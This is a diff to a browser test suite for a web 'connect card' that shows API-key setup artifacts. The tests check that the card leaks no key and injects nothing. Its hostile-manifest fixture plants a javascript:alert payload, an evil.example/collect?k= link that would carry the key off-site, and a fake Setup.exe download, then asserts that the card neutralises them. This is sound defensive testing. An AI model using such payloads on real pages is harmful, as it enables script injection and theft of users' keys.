@@ -51,9 +51,14 @@ def hostile_manifest(manifest):
             artifact["notes"] = [HOSTILE_TEXT]
             for path in artifact.get("paths", []):
                 path["path"] = HOSTILE_TEXT
-            if artifact["kind"] == "link" and artifact.get("program"):
-                artifact["program"] = {"checks": [], "text": ["javascript:alert(document.domain)//", {"key": True}]}
-                artifact["content"] = "javascript:alert(document.domain)//"
+            if artifact["kind"] == "link" and artifact["available"]:
+                # A script link, and an https link that would send the key to another site.
+                target = "javascript:alert(document.domain)//" if len(artifact["id"]) % 2 else "https://evil.example/collect?k="
+                if artifact.get("program"):
+                    artifact["program"] = {"checks": [], "text": [target, {"key": True}]}
+                artifact["content"] = target + manifest["placeholder"]
+            if artifact["kind"] == "file":
+                artifact["download"] = {"name": "Setup.exe", "href": "data:application/zip;base64,AAAA"}
     return manifest
 
 
@@ -108,8 +113,7 @@ for (const option of Array.from(root.querySelectorAll('option'))) {
     if (section.tagName === 'CODE') { out.codes[id] = section.textContent; return; }
     const refusal = section.querySelector('.refusal');
     if (refusal) out.refused[id] = refusal.textContent;
-    const link = section.querySelector('a.install');
-    if (link) out.links[id] = link.getAttribute('href');
+    if (section.querySelector('button.install')) out.links[id] = true;
   });
   if (details) details.open = false;
 }
@@ -144,8 +148,9 @@ def test_card_fills_every_artifact_like_the_cli(driver, card_site, cli):
             assert not expected[artifact_id]["available"]
             assert refusal_reason(text) == expected[artifact_id]["reason"], f"{artifact_id} for {key[:40]!r}"
             refused += 1
-        for artifact_id, href in shown["links"].items():
-            assert href == expected[artifact_id]["content"]
+        # Every available link artifact has its install button (it opens the shown content).
+        for artifact_id in shown["links"]:
+            assert expected[artifact_id]["kind"] == "link" and expected[artifact_id]["available"]
         # Every artifact the CLI makes for this key appears, as text or as a refusal.
         for artifact_id, artifact in expected.items():
             if artifact["available"]:
@@ -153,10 +158,18 @@ def test_card_fills_every_artifact_like_the_cli(driver, card_site, cli):
     assert compared > 2000 and refused > 50
     print(f"\nconnect card: {len(keys)} keys, {compared} artifacts and {refused} refusals matched the CLI; "
           f"all 30 clients shown per key in a median {sorted(fill_times)[len(fill_times) // 2]:.1f} ms")
-    # The key went nowhere: no request, no storage, no attribute, no URL.
+    # The key went nowhere: no request, no storage, no attribute, no URL; checked with a client
+    # whose install buttons open links that hold the key.
     assert request_urls(driver) == []
     leaks = driver.execute_script("""
         const key = arguments[0];
+        const card = document.getElementById('card');
+        card.key = key;
+        const select = card.shadowRoot.querySelector('select');
+        select.value = 'cursor';
+        select.dispatchEvent(new Event('change'));
+        card.shadowRoot.querySelector('details').open = true;
+        if (!card.shadowRoot.querySelector('button.install')) return ['no install button to check'];
         const found = [];
         if (localStorage.length || sessionStorage.length || document.cookie) found.push('storage');
         if (location.href.includes(key)) found.push('url');
@@ -166,7 +179,7 @@ def test_card_fills_every_artifact_like_the_cli(driver, card_site, cli):
         });
         scan(document);
         performance.getEntries().forEach(e => { if (e.name.includes(key)) found.push('performance ' + e.name); });
-        return found;""", keys[0])
+        return found;""", "sk_live_LEAKCHECK_0123456789abcdef")
     assert leaks == []
     assert csp_violations(driver) == []
 
@@ -211,7 +224,7 @@ def test_hostile_manifest_injects_nothing(driver, card_site):
     result = driver.execute_script("""
         const card = document.getElementById('card');
         card.key = 'sk_live_hostile123456789';
-        const root = card.shadowRoot, out = {images: 0, scripts: 0, links: [], texts: 0};
+        const root = card.shadowRoot, out = {images: 0, scripts: 0, links: [], installs: 0, downloads: 0, texts: 0};
         for (const option of Array.from(root.querySelectorAll('option'))) {
           const select = root.querySelector('select');
           select.value = option.value;
@@ -220,11 +233,14 @@ def test_hostile_manifest_injects_nothing(driver, card_site):
           out.images += root.querySelectorAll('img').length + document.querySelectorAll('img').length;
           out.scripts += root.querySelectorAll('script').length;
           root.querySelectorAll('a').forEach(a => out.links.push(a.getAttribute('href')));
+          out.installs += root.querySelectorAll('button.install').length;
+          out.downloads += root.querySelectorAll('a[download]').length;
           out.texts += root.textContent.split(arguments[0]).length - 1;
         }
         return out;""", HOSTILE_TEXT)
     assert result["images"] == 0 and result["scripts"] == 0
-    assert result["links"] and not any(href.lower().startswith("javascript:") for href in result["links"])
+    # No link, no install button for a script or a foreign https link, no download of an .exe.
+    assert (result["links"], result["installs"], result["downloads"]) == ([], 0, 0), result
     assert result["texts"] > 30, "the hostile text should show as text"
     assert not driver.execute_script("return window.__alerted === true")
     assert csp_violations(driver) == []
@@ -272,7 +288,7 @@ def test_keyboard_reaches_every_copy_and_install_button(driver, card_site):
     assert wanted <= reached, sorted(wanted - reached)
 
 
-@pytest.mark.parametrize("width,scheme", [(1280, "light"), (1280, "dark"), (390, "light"), (390, "dark")])
+@pytest.mark.parametrize("width,scheme", [(1280, "light"), (1280, "dark"), (390, "light"), (390, "dark"), (360, "light")])
 def test_screenshots(driver, card_site, screenshots, width, scheme):
     driver.set_window_size(width, 1400)
     set_color_scheme(driver, scheme)
